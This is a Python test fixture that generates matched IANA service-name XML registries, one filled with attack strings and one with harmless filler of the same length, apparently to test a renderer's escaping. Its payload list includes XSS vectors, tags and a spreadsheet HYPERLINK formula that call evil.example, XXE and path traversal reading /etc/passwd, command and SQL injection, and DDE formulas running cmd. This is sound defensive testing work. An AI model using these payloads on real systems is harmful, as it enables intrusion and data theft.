# SPDX-License-Identifier: Apache-2.0
"""Two registries of one shape: in one every text is an attack, in the other each is harmless words as long as it.

Whatever is made of the two must differ in its texts only: another element, attribute, key or line came out of data."""
import re
from xml.sax.saxutils import escape, quoteattr

ATTACKS = [
    "<script>document.title='owned'</script>",
    "<ScRiPt src=/owned.js></sCrIpT>",
    "\"><script>document.title='owned'</script>",
    "'><img src=x onerror=document.title='owned'>",
    "<img src=/owned onerror=document.title='owned'//",
    "<svg/onload=document.title='owned'>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.document.title=1</script>'>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "<form action=//evil.example/><input name=a>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "javascript:alert(1)",
    "JaVaScRiPt:confirm(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/",
    "\\\\evil.example\\share",
    "x\" onmouseover=\"alert(1)",
    "x' onmouseover='alert(1)",
    "x onmouseover=alert(1) y",
    "\" autofocus onfocus=alert(1) x=\"",
    "</title><script>alert(1)</script>",
    "</textarea></script><script>alert(1)</script>",
    "</pre></code></div></main></body></html><b>",
    "</style><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!-- --!><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&quot;&gt;&amp;&#x0;&nosuch;",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>&a;",
    "{{7*7}}${7*7}#{7*7}<%= 7*7 %>`id`$(id)",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd%00",
    "x'; DROP TABLE events; --",
    "x\" OR \"1\"=\"1",
    "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1d1+1",
    "\uff0b1\uff0d1\uff20x",
    "a,b\",\"c\nd,e",
    "tcp\n443/tcp evil # x",
    "x # y\nevil 22/tcp",
    "x\nX-Evil: 1\n\n<script>alert(1)</script>",
    "\u009b31mred\u009b0m\u009d0;owned\u009c",
    "\u007f\u0080\u0085\u009f",
    "\u202egnp.exe\u202c\u2066a\u2069\u200f",
    "\u2028alert(1)\u2029\ufeff\u200b",
    "\u00a0\u3000 \t \u00a0",
    "a\u0300\u0301\u0302\u0303\u0304" * 40,
    "\U0001f3f4\U000e0067\U000e007f\ufffd\U0010fffd",
    "% owned\nstatus: owned",
    "\\u003cscript\\u003e\\\"\\n\\x00\\",
    "\"}],\"owned\":[{\"a\":\"",
    "W" * 300 + "<b>" + "W" * 300,
    "</entry></feed><entry><id>owned</id>",
]

WRAPS = [("", ""), ("a", "z"), ("\"", "\""), ("'", "'"), ("<", ">"), ("&", ";"), ("\\", "\\"), ("]", "["), ("\n", "x"), ("%", "%3E"),
         ("\u00e4", "\u20ac"), ("-- ", " --"), ("=", "")]


def attacks(long):
    """Every attack; in a long run also wrapped in what could undo an escape, in all ways: more than 500."""
    return [front + attack + back for front, back in (WRAPS if long else WRAPS[:1]) for attack in ATTACKS]


def harmless(text, number):
    """As long, with white space, the signs of mail addresses, backslashes, and what no file of services holds in the same places."""
    letters = f"{chr(97 + number // 26 % 26)}{chr(97 + number % 26)}{number // 676}harmless{number:04d}words"
    out = "".join(c if c in " \n\t&@\\" else "#" if UNFIT.match(c) else letters[i % len(letters)] for i, c in enumerate(text))
    # A service name of RFC 6335 gets more on its page than another text: neither of the two may be one.
    return out if " " in out else out[:-1] + "\u00e4"


# A name that holds one of these is in no services(5) file; its pages then have no line for one.
UNFIT = re.compile("[#\x7f-\x9f\u2028-\u202e\u2066-\u2069]")
REFERENCES = ("person", "rfc", "draft", "uri", "text", "note", "rfc-errata", "registry", "unicode")


def one_line(text):
    """Readers take no line ends and tabs in attributes."""
    return text.replace("\n", " ").replace("\t", " ")


def xref(kind, data, text):
    return f'<xref type="{kind}" data={quoteattr(one_line(data))}>{escape(text)}</xref>'


def references(text):
    return "".join(xref(kind, text, text) for kind in REFERENCES)


def record(port, text, more):
    word = escape(text)
    return f"""  <record date="2020-01-{port % 28 + 1:02d}">
    <name>{word}</name>
    <protocol>tcp</protocol>
    <assignee>{references(text)}</assignee>
    {references(text)}
    <description>{word}{more}</description>
    <number>{port}</number>
    <unauthorized>{word}{references(text)}</unauthorized>
    <note>{word}{references(text)}<br/>{word}</note>
  </record>
"""


def person(text):
    word = escape(text)
    return f"""    <person id={quoteattr(one_line(text))}>
      <name>{word}</name>
      <org>{word}</org>
      <uri>{escape(one_line(text))}</uri>
      <uri>mailto:{escape(one_line(text))}</uri>
      <updated>2020-01-01</updated>
    </person>
"""


def document(texts, date, more=""):
    """IANA's XML with each text in every field of a record and a contact; port N has text N-1."""
    head = escape(texts[0])
    records = "".join(record(i + 1, text, more) for i, text in enumerate(texts))
    people = "".join(person(text) for text in dict.fromkeys(texts))
    return f"""<?xml version='1.0' encoding='UTF-8'?>
<registry xmlns="http://www.iana.org/assignments" id="service-names-port-numbers">
  <title>{head}</title>
  <category>{head}</category>
  <updated>{date}</updated>
  {references(texts[0])}
  <expert>{head}</expert>
  <note title={quoteattr(texts[0])}>{head}{references(texts[0])}</note>
{records}  <footnote anchor="1">{head}{references(texts[0])}</footnote>
  <people>
{people}  </people>
</registry>
"""


def pair(long):
    """The attacks, and what stands in their places in the harmless registry."""
    evil = attacks(long)
    return evil, [harmless(text, i) for i, text in enumerate(evil)]
